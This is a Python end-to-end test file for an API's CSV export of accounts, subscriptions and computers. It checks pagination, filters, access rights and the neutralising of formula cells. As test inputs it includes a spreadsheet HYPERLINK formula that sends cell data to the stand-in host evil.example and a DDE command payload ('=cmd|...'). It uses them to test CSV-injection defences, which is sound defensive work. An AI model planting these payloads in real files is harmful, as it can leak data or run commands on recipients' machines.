"""Lists as CSV (API.md 1.1): `Accept: text/csv` on the accounts, subscriptions and monitoring
computers lists answers every item of the filtered list, over more than one of the gateway's pages,
as RFC 4180 text with a dated file name; a cell a spreadsheet would run is neutralised. JSON stays
the answer to every other `Accept`.

Each row is checked against the JSON list, walked page by page, with an oracle of the contract's
rules written here (not the gateway's code)."""

import csv
import io
import json
import uuid

import pytest

from tests.e2e.test_billing_helpers import buy, eventually, item, start_trial
from tests.flows import assert_error, create_employee, sign_up

pytestmark = pytest.mark.e2e

CSV = {"Accept": "text/csv"}
GATEWAY_PAGE = 200  # what the gateway asks a service for at once: these lists are longer
ACCOUNTS = GATEWAY_PAGE + 3
COMPUTERS = GATEWAY_PAGE + 5
INVENTORY_ORDERS, LINES_PER_ORDER = 5, 50  # 250 inventory subscriptions
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AWKWARD_NAMES = [FORMULA, "+1 Computers", "-Minus Ltd", "@Risk", 'Comma, "Quoted" & Co', "Zoë Ångström"]


def expected_cell(value):
    """The contract's CSV cell for a JSON value."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (list, dict)):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    if isinstance(value, str):
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
    return str(value)


def rows_of(response):
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def every_item(client, path, **params):
    """The JSON list, walked page by page with the same filters."""
    items, cursor = [], None
    while True:
        body = client.get(path, params={**params, "limit": 200, **({"cursor": cursor} if cursor else {})}).json()
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def assert_csv_is_the_json_list(client, path, **params):
    """The CSV of `path` with `params` holds exactly the JSON list's items, in its order; answers them."""
    items = every_item(client, path, **params)
    rows = rows_of(client.get(path, params=params, headers=CSV))
    header = rows[0]
    assert len(set(header)) == len(header)
    assert rows[1:] == [[expected_cell(item[key]) for key in header] for item in items]
    if items:
        assert header == list(items[0]), "the columns are the item's fields, in the JSON's order"
    return items, rows


class Partner:
    """One partner with long lists: more accounts, computers and subscriptions than one gateway page."""

    def __init__(self, system):
        self.system = system
        self.owner = sign_up(system)
        self.client = self.owner.client
        self.customers = [f"Customer {number:03d}" for number in range(ACCOUNTS - len(AWKWARD_NAMES) - 1)]
        for name in self.customers:
            self.account(name)
        for name in AWKWARD_NAMES:
            self.account(name)
        self.main = self.account("Main office")
        start_trial(self.owner, self.main["id"], "safe-pro", "ultimate")
        buy(self.owner, item("safe-pro", "ultimate", 1, COMPUTERS // 15 + 1, self.main["id"]))
        for number in range(COMPUTERS - 1):
            self.computer(f"PC-{number:03d}")
        self.computer("=cmd|' /C calc'!A0")
        for _ in range(INVENTORY_ORDERS):
            buy(self.owner, *[item("safe", "basic", 1 + number % 3, 1) for number in range(LINES_PER_ORDER)])
        eventually(
            lambda: len(every_item(self.client, "/v1/monitoring/computers")) == COMPUTERS,
            timeout=10,
            what="every computer in monitoring",
        )

    def account(self, name):
        response = self.client.post("/v1/accounts", json={"name": name, "contact_email": "it@customer.test"})
        assert response.status_code == 201, response.text
        return response.json()

    def computer(self, name):
        response = self.client.post(
            f"/v1/accounts/{self.main['id']}/computers", json={"name": name, "kind": "workstation"}
        )
        assert response.status_code == 201, response.text
        return response.json()


@pytest.fixture(scope="module")
def partner(system):
    return Partner(system)


def test_the_accounts_csv_is_the_whole_list_across_pages_with_a_dated_name(partner, system):
    response = partner.client.get("/v1/accounts", params={"limit": 5}, headers=CSV)
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="accounts-{system.clock.now().date().isoformat()}.csv"'
    )
    items, rows = assert_csv_is_the_json_list(partner.client, "/v1/accounts")
    assert len(items) == ACCOUNTS and len(rows) == ACCOUNTS + 1
    by_name = {row[rows[0].index("id")]: row[rows[0].index("name")] for row in rows[1:]}
    assert {by_name[item["id"]] for item in items if item["name"] in AWKWARD_NAMES} == {
        "'" + FORMULA,
        "'+1 Computers",
        "'-Minus Ltd",
        "'@Risk",
        'Comma, "Quoted" & Co',
        "Zoë Ångström",
    }
    assert b'"Comma, ""Quoted"" & Co"' in response.content and b"\r\n" in response.content  # RFC 4180


def test_the_accounts_csv_takes_the_lists_filters(partner):
    items, _ = assert_csv_is_the_json_list(partner.client, "/v1/accounts", q="customer 1")
    assert sorted(entry["name"] for entry in items) == [name for name in partner.customers if "Customer 1" in name]
    eventually(lambda: every_item(partner.client, "/v1/accounts", status="active"), what="billing's status in the list")
    items, rows = assert_csv_is_the_json_list(partner.client, "/v1/accounts", status="active")
    assert [row[rows[0].index("name")] for row in rows[1:]] == ["Main office"]


def test_the_computers_csv_is_every_computer_across_pages(partner):
    items, rows = assert_csv_is_the_json_list(partner.client, "/v1/monitoring/computers")
    assert len(items) == COMPUTERS
    assert rows[-1][rows[0].index("name")] == "'=cmd|' /C calc'!A0"
    items, _ = assert_csv_is_the_json_list(
        partner.client, "/v1/monitoring/computers", account_id=partner.main["id"], status="new"
    )
    assert len(items) == COMPUTERS
    assert rows_of(partner.client.get("/v1/monitoring/computers", params={"account_id": "nobody"}, headers=CSV)) == [
        rows[0]
    ]


def test_the_subscriptions_csv_has_its_arrays_as_json_and_takes_the_renewals_filters(partner, system):
    items, rows = assert_csv_is_the_json_list(partner.client, "/v1/subscriptions")
    assert len(items) == INVENTORY_ORDERS * LINES_PER_ORDER + 2 and rows[0][-1] == "addons"
    assert {row[-1] for row in rows[1:]} == {"[]"}
    running = sorted(
        (entry for entry in items if entry["expires_at"]), key=lambda entry: (entry["expires_at"], entry["id"])
    )
    assert len(running) == 2  # the trial and the purchase; the inventory has not started
    soon = system.clock.now().replace(year=system.clock.now().year + 2).strftime("%Y-%m-%dT%H:%M:%SZ")
    renewing, _ = assert_csv_is_the_json_list(
        partner.client, "/v1/subscriptions", expires_before=soon, auto_renew="true"
    )
    assert renewing == [entry for entry in running if entry["auto_renew"]]


def test_a_viewer_may_download_as_they_may_list_and_nobody_else(partner, system):
    viewer = create_employee(partner.owner, "viewer")
    assert len(rows_of(viewer.client.get("/v1/monitoring/computers", headers=CSV))) == COMPUTERS + 1
    assert_error(system.client().get("/v1/accounts", headers=CSV), 401, "unauthenticated")
    other = sign_up(system)
    assert rows_of(other.client.get("/v1/monitoring/computers", headers=CSV))[1:] == []
    assert rows_of(other.client.get("/v1/subscriptions", headers=CSV))[1:] == []


def test_an_empty_list_is_its_header_row(system):
    owner = sign_up(system)
    assert rows_of(owner.client.get("/v1/accounts", headers=CSV)) == [
        [
            "id",
            "name",
            "contact_email",
            "role",
            "status",
            "product",
            "plan",
            "expires_at",
            "computers",
            "bytes_backed_up",
            "computers_not_backing_up",
            "created_at",
        ]
    ]


@pytest.mark.parametrize(
    "accept",
    [None, "*/*", "application/json", "application/xml", "text/html, */*;q=0.8", "text/csv;q=0.5, application/json"],
)
def test_json_stays_the_answer_unless_csv_is_preferred(partner, accept):
    headers = {"Accept": accept} if accept else {}
    response = partner.client.get("/v1/accounts", params={"limit": 2}, headers=headers)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("application/json")
    assert len(response.json()["items"]) == 2


@pytest.mark.parametrize(
    "path, params, field",
    [
        ("/v1/accounts", {"status": "sleeping"}, "status"),
        ("/v1/subscriptions", {"expires_before": "tomorrow"}, "expires_before"),
        ("/v1/monitoring/computers", {"status": "asleep"}, "status"),
    ],
)
def test_a_refused_filter_is_the_usual_json_error(partner, path, params, field):
    error = assert_error(partner.client.get(path, params=params, headers=CSV), 400, "validation_error")
    assert field in error["details"]


def test_each_download_is_the_list_at_that_moment(partner):
    before = rows_of(partner.client.get("/v1/accounts", params={"q": "later"}, headers=CSV))
    partner.account(f"Later {uuid.uuid4().hex[:6]}")
    after = rows_of(partner.client.get("/v1/accounts", params={"q": "later"}, headers=CSV))
    assert (len(before), len(after)) == (1, 2)
